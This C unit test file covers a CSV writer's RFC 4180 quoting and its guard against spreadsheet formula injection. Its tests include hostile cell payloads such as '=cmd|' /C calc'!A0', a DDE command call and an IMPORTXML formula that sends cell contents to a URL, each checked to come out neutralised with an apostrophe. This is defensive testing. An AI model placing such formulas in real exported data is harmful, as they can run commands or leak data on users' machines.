#include "format/csv.h"

#include <stdlib.h>

#include "tests/test.h"

/* What becomes of a cell behind another one, so that an empty one shows, too. */
static const char *
cell_after(const char *cell, enum csv_guard guard, struct arena *arena)
{
	struct text text = TEXT_INIT;
	csv_add_cell(&text, "x", CSV_RAW);
	csv_add_cell(&text, cell, guard);
	return text_take(&text, arena) + 1;
}

/* The bytes as the name of a test, which is one line. */
static const char *
one_line(const char *bytes, struct arena *arena)
{
	char *line = (char *)arena_copy(arena, bytes);
	for (char *byte = line; *byte; byte++)
		if (*byte < ' ' && *byte > 0)
			*byte = '~';
	return line;
}

TEST(cells_are_quoted_where_rfc_4180_asks_for_it)
{
	static const struct {
		const char *cell, *bytes;
	} cases[] = {
		{ "plain", ",plain" },
		{ "", "," },
		{ "a b", ",a b" },
		{ "a,b", ",\"a,b\"" },
		{ "say \"hi\"", ",\"say \"\"hi\"\"\"" },
		{ "two\nlines", ",\"two\nlines\"" },
		{ "cr\rhere", ",\"cr\rhere\"" },
		{ " padded", ",\" padded\"" },
		{ "padded ", ",\"padded \"" },
		{ "田中、様", ",田中、様" },
	};
	struct arena arena = ARENA_INIT;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		CHECK_TEXT(cell_after(cases[i].cell, CSV_GUARDED, &arena), cases[i].bytes);
		test_result(one_line(cases[i].bytes, &arena));
	}
	arena_release(&arena);
}

TEST(rows_end_with_crlf_and_keep_their_empty_cells)
{
	struct text text = TEXT_INIT;
	csv_add_cell(&text, "", CSV_GUARDED);
	csv_add_cell(&text, "", CSV_GUARDED);
	csv_add_cell(&text, "c", CSV_GUARDED);
	csv_end_row(&text);
	csv_add_cell(&text, "", CSV_GUARDED);
	csv_end_row(&text);
	csv_add_cell(&text, "d", CSV_GUARDED);
	csv_add_cell(&text, "", CSV_GUARDED);
	csv_end_row(&text);
	CHECK_TEXT(text.bytes, "\"\",,c\r\n\"\"\r\nd,\r\n");
	text_release(&text);
}

TEST(what_a_spreadsheet_would_run_gets_an_apostrophe)
{
	static const struct {
		const char *cell, *bytes;
	} cases[] = {
		{ "=1+1", ",'=1+1" },
		{ "=cmd|' /C calc'!A0", ",'=cmd|' /C calc'!A0" },
		{ "=HYPERLINK(\"http://x\",\"y\")",
			",\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" },
		{ "@SUM(A1)", ",'@SUM(A1)" },
		{ "+1+1", ",'+1+1" },
		{ "-1+1", ",'-1+1" },
		{ "-2-3", ",'-2-3" },
		{ "+A1", ",'+A1" },
		{ "+1234567|cmd", ",'+1234567|cmd" },
		{ "-", ",'-" },
		{ "- a list item", ",'- a list item" },
		{ "\t=1", ",'\t=1" },
		{ "\r=1", ",\"'\r=1\"" },
		{ "\n=1", ",\"'\n=1\"" },
		{ "  =1", ",\"'  =1\"" },
		{ "\"=1\"", ",\"'\"\"=1\"\"\"" },
		{ "'=1", ",''=1" },
		{ " '=1", ",\"' '=1\"" },
		{ "＝1+1", ",'＝1+1" },
		{ "＋1", ",'＋1" },
		{ "－1", ",'－1" },
		{ "＠SUM", ",'＠SUM" },
		{ "+1-2", ",'+1-2" },
		{ "-1e5", ",'-1e5" },
		{ "=", ",'=" },
		{ "@", ",'@" },
		{ "+", ",'+" },
		{ "==1", ",'==1" },
		{ "+-1", ",'+-1" },
		{ "-+1", ",'-+1" },
		{ "--1", ",'--1" },
		{ "@@x", ",'@@x" },
		{ "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60\")",
			",\"'=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"__DdeLink_60\"\")\"" },
		{ "-1+cmd|'/C calc'!A0", ",'-1+cmd|'/C calc'!A0" },
		{ "=IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")",
			",\"'=IMPORTXML(CONCAT(\"\"http://x?v=\"\",A1),\"\"//a\"\")\"" },
		{ "=1;2", ",'=1;2" },
		{ "\r\n=1", ",\"'\r\n=1\"" },
		{ "\"\"=1", ",\"'\"\"\"\"=1\"" },
		{ " \" =1", ",\"' \"\" =1\"" },
		{ "\u00a0=1", ",'\u00a0=1" },
		{ "\u3000＝1", ",'\u3000＝1" },
		{ "\ufeff=1", ",'\ufeff=1" },
		{ "＇=1", ",'＇=1" },
		{ "＂＝1", ",'＂＝1" },
		{ "+5%", ",'+5%" },
		{ "-5 EUR", ",'-5 EUR" },
		{ "+12 34", ",'+12 34" },
		{ "@sarah", ",'@sarah" },
		{ "＋81 90", ",'＋81 90" },
		{ "+81 90-1234-5678; =1", ",'+81 90-1234-5678; =1" },
		{ "+1; 2", ",'+1; 2" },
	};
	struct arena arena = ARENA_INIT;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		CHECK_TEXT(cell_after(cases[i].cell, CSV_GUARDED, &arena), cases[i].bytes);
		test_result(one_line(cases[i].bytes, &arena));
	}
	arena_release(&arena);
}

TEST(numbers_phones_and_words_never_do)
{
	static const char *const cells[] = { "5", "-5", "+5", "-5.25", "+3.5", "-1,234.56",
		"+81 90-1234-5678", "+1 (555) 010-9999", "+48123456789", "+44.20.7946.0958",
		"090-1234-5678", "it's", "a=b", "a@b.example", "1-2", "'quoted'", "'", "\"",
		"3 + 4", "¥-5", "2026-02-10", "+81 90-1234-5678; 090 1234 9999",
		"+48 123 456 789;+48 123 456 780" };
	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
		CHECK(!csv_is_formula(cells[i]));
		test_result(cells[i]);
	}
}

TEST(raw_leaves_everything_as_it_is)
{
	struct arena arena = ARENA_INIT;
	CHECK_TEXT(cell_after("=1+1", CSV_RAW, &arena), ",=1+1");
	CHECK_TEXT(cell_after("\t=1", CSV_RAW, &arena), ",\t=1");
	arena_release(&arena);
}

TEST(the_guard_can_be_taken_off_without_doubt)
{
	static const char *const cells[] = { "=1", "'=1", "''=1", "'x", "'", "", "-5", "'-5",
		"' =1", " =1", "\"=1", "'\"=1", "'+81 90-1234-5678", "＝1", "'＝1", "＇=1",
		"\u3000=1", "'\u3000'=1", "\t", "'\t", "@", "'@", "it's" };
	struct arena arena = ARENA_INIT;
	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
		const char *written =
			csv_is_formula(cells[i]) ? arena_format(&arena, "'%s", cells[i]) : cells[i];
		CHECK_TEXT(csv_unguard(written), cells[i]);
	}
	arena_release(&arena);
}

int
main(void)
{
	RUN(cells_are_quoted_where_rfc_4180_asks_for_it);
	RUN(rows_end_with_crlf_and_keep_their_empty_cells);
	RUN(what_a_spreadsheet_would_run_gets_an_apostrophe);
	RUN(numbers_phones_and_words_never_do);
	RUN(raw_leaves_everything_as_it_is);
	RUN(the_guard_can_be_taken_off_without_doubt);
	return test_end();
}
